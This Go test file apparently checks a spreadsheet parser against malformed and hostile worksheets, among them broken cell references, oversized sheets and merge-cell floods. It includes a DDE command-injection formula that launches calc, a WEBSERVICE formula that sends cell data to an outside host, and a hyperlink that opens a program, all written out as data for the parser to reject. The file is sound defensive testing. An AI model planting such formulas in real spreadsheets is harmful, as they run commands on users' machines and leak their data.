package workbook

import (
	"fmt"
	"strings"
)

// cellAttacks are about rows, cells and formulas.
func cellAttacks() []attack {
	of := func(name string, want Kind, rows string) attack {
		return attack{name: name, want: want, build: func(f *forge) []byte { return pack(f.t, sheetWith(rows)) }}
	}
	one := func(name string, want Kind, cells string) attack {
		return of(name, want, `<row r="1">`+cells+"</row>")
	}
	text := func(name string, want Kind, number string) attack {
		return one(name, want, `<c r="A1" t="s"><v>`+number+"</v></c>")
	}
	big := func(name string, want Kind, head, piece, tail string, n int) attack {
		return attack{name: name, want: want, heavy: true, build: func(f *forge) []byte {
			return f.bomb(sheetPart, "<worksheet>"+head, piece, tail+"</worksheet>", n*len(piece))
		}}
	}
	rows := func(name string, want Kind, n int, row func(int) string) attack {
		return attack{name: name, want: want, heavy: true, build: func(f *forge) []byte {
			var b strings.Builder
			for i := 1; i <= n; i++ {
				b.WriteString(row(i))
			}
			return pack(f.t, sheetWith(b.String()))
		}}
	}
	extra := func(name, cells string) attack {
		return attack{name: name, want: same, build: func(f *forge) []byte { return f.realSheet("Noch eins", `<row r="1">`+cells+"</row>") }}
	}
	merged := func(name string, want Kind, ref string) attack {
		return attack{name: name, want: want, build: func(f *forge) []byte {
			return pack(f.t, with(sheetPart, `<worksheet><sheetData/><mergeCells><mergeCell ref="`+ref+`"/></mergeCells></worksheet>`))
		}}
	}
	return []attack{
		of("row 0", Damaged, `<row r="0"/>`),
		of("row -1", Damaged, `<row r="-1"/>`),
		of("row too far", Damaged, `<row r="1048577"/>`),
		of("row 2147483647", Damaged, `<row r="2147483647"/>`),
		of("row overflows", Damaged, `<row r="99999999999999999999"/>`),
		of("row that is no number", Damaged, `<row r="eins"/>`),
		of("row 1.5", Damaged, `<row r="1.5"/>`),
		of("row twice", Damaged, `<row r="1"/><row r="1"/>`),
		of("rows out of order", fine, `<row r="9"><c r="A9"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>`),
		of("rows without numbers behind the last", Damaged, `<row r="1048576"/><row/>`),
		one("column too far", Damaged, `<c r="XFE1"/>`),
		one("column far too far", Damaged, `<c r="AAAAAAAAAAAAAAAA1"/>`),
		one("cell in row 0", Damaged, `<c r="A0"/>`),
		one("cell without a column", Damaged, `<c r="1"/>`),
		one("cell without a row number", Damaged, `<c r="A"/>`),
		one("cell with more behind", Damaged, `<c r="A1B"/>`),
		one("cell in row -1", Damaged, `<c r="A-1"/>`),
		one("cell in small letters", fine, `<c r="a1"><v>1</v></c>`),
		one("cell in letters of another script", Damaged, `<c r="А1"/>`),
		one("cell in another row", Damaged, `<c r="A2"/>`),
		one("cells out of order", Damaged, `<c r="B1"/><c r="A1"/>`),
		one("cell twice", Damaged, `<c r="A1"/><c r="A1"/>`),
		of("cell without a row", Damaged, `<c r="A1"/>`),
		one("cell in a cell", Damaged, `<c r="A1"><c r="A1"><v>1</v></c></c>`),
		one("cell of an unknown kind", Damaged, `<c r="A1" t="q"><v>1</v></c>`),
		text("text number too high", Damaged, "2"),
		text("text number far too high", Damaged, "999999999"),
		text("text number negative", Damaged, "-1"),
		text("text number broken", Damaged, "1.5"),
		text("text number in words", Damaged, "abc"),
		text("text number overflows", Damaged, "99999999999999999999"),
		text("text number in hexadecimal", Damaged, "0x1"),
		text("text number between blanks", fine, " 1 "),
		one("text without a number", fine, `<c r="A1" t="s"/>`),
		one("number that is none", fine, `<c r="A1"><v>NaN</v></c>`),
		one("number beyond all", fine, `<c r="A1"><v>1e999</v></c>`),
		one("error in a cell", fine, `<c r="A1" t="e"><v>#REF!</v></c>`),
		one("text of 40,000 letters", fine, `<c r="A1" t="str"><v>`+strings.Repeat("a", 40_000)+"</v></c>"),
		one("text of 9 MB", TooLarge, `<c r="A1" t="str"><v>`+noise(9<<20)+"</v></c>"),
		one("hidden characters", fine, `<c r="A1" t="str"><v>_x0000__x0001__xFFFF__xD800__xZZZZ_</v></c>`),
		one("text against the direction", fine, `<c r="A1" t="str"><v>`+"\u202eabc\u202c"+"</v></c>"),
		extra("command by DDE", `<c r="A1" t="str"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c>`),
		extra("formula that calls the net", `<c r="A1" t="str"><f>WEBSERVICE("http://example.org/"&amp;B1)</f><v>x</v></c>`),
		extra("formula with a link outside", `<c r="A1"><f>[1]Tabelle1!A1</f><v>5</v></c>`),
		extra("formulas in a circle", `<c r="A1"><f>B1</f><v>0</v></c><c r="B1"><f>A1</f><v>0</v></c>`),
		extra("formula that takes for ever", `<c r="A1"><f>SUMPRODUCT(A1:XFD1048576*A1:XFD1048576)</f><v>0</v></c>`),
		extra("formula without a value", `<c r="A1"><f>1+1</f></c>`),
		extra("formula of 9,000 letters", `<c r="A1"><f>`+strings.Repeat("1+", 4500)+`1</f><v>4501</v></c>`),
		extra("link that opens a program", typed("A1", `=HYPERLINK("file:///C:/Windows/System32/calc.exe","Hier")`)),
		merged("merged cells upside down", fine, "B2:A1"),
		merged("merged cells of the whole sheet", fine, "A1:XFD1048576"),
		merged("merged cells of no cell", fine, "A0:B0"),
		merged("merged cells without a reference", fine, ""),
		{name: "merged cells across each other", want: fine, build: func(f *forge) []byte {
			var b strings.Builder
			for i := 1; i < 2000; i++ {
				fmt.Fprintf(&b, `<mergeCell ref="A%d:CV%d"/>`, i, i+40)
			}
			return pack(f.t, with(sheetPart, `<worksheet><sheetData/><mergeCells>`+b.String()+"</mergeCells></worksheet>"))
		}},
		big("300,000 merged cells", TooLarge, "<mergeCells>", `<mergeCell ref="A1:B2"/>`, "</mergeCells>", 300_000),
		big("5 million cells without references", TooLarge, `<sheetData><row r="1">`, "<c><v>1</v></c>", "</row></sheetData>", 5_000_000),
		rows("1,048,576 empty rows", fine, 1_048_576, func(i int) string { return fmt.Sprintf(`<row r="%d" s="1" customFormat="1"/>`, i) }),
		rows("3,000 rows with a cell at the far end", fine, 3000, func(i int) string { return fmt.Sprintf(`<row r="%d"><c r="XFD%d"><v>1</v></c></row>`, i, i) }),
		rows("4 million empty cells", fine, 4000, func(int) string { return "<row>" + strings.Repeat(`<c s="1"/>`, 1000) + "</row>" }),
		rows("4 million filled cells", TooLarge, 4000, func(int) string { return "<row>" + strings.Repeat(`<c t="s"><v>1</v></c>`, 1000) + "</row>" }),
		rows("100,000 rows of comments and nothing else", fine, 100_000, func(i int) string { return fmt.Sprintf(`<row r="%d"><!-- nichts --></row>`, i) }),
	}
}
